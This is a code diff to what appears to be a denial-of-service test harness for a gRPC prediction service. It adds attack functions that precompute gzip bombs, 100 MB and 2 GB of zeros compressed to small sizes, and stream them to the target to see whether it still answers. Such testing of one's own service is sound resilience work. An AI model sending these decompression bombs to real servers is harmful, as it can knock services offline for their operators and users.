@@ -13,6 +13,7 @@ import json
 import os
 import socket
 import struct
+import threading
 import time
 import zlib
 from base64 import b64encode
@@ -431,6 +432,40 @@ def gzip_of_600_mb(target: Target) -> str:
 @attack("grpc", threads=4)
 def gzip_of_100_mb(target: Target) -> str:
     return target.call(_PREDICT, bytes(100 << 20), compression=grpc.Compression.Gzip)
+
+
+_DEFLATING = threading.Lock()
+
+
+@functools.cache
+def _zeros(size: int) -> bytes:
+    deflater = zlib.compressobj(1, wbits=31)
+    parts = [deflater.compress(bytes(1 << 20)) for _ in range(size >> 20)]
+    return b"".join([*parts, deflater.flush()])
+
+
+@attack("grpc", threads=16)
+def gzip_of_100_mb_made_before(target: Target) -> str:
+    """As `gzip_of_100_mb`, but the attackers take no processor time for it."""
+    return _send_deflated(target, 100 << 20)
+
+
+@attack("grpc", threads=4)
+def gzip_of_2_gb_made_before(target: Target) -> str:
+    return _send_deflated(target, 2 << 30)
+
+
+def _send_deflated(target: Target, size: int) -> str:
+    with _DEFLATING:
+        data = _zeros(size)
+    connection = Connection(target.address)
+    try:
+        stream = connection.begin(_PREDICT, grpc_encoding="gzip")
+        connection.send(stream, b"\1" + struct.pack(">I", len(data)) + data)
+        answered = connection.finish(stream, wait_s=_TIMEOUT_S)
+    finally:
+        connection.close()
+    return "answered" if answered else "not answered"
 
 
 @attack("grpc", threads=8)
